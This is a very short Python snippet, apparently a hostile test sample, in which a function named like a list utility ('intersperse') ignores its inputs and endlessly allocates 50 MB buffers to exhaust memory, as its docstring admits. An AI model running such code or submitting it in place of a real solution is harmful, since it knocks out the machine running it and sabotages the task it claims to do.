"""Takes all the memory there is."""


def intersperse(numbers, delimiter):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
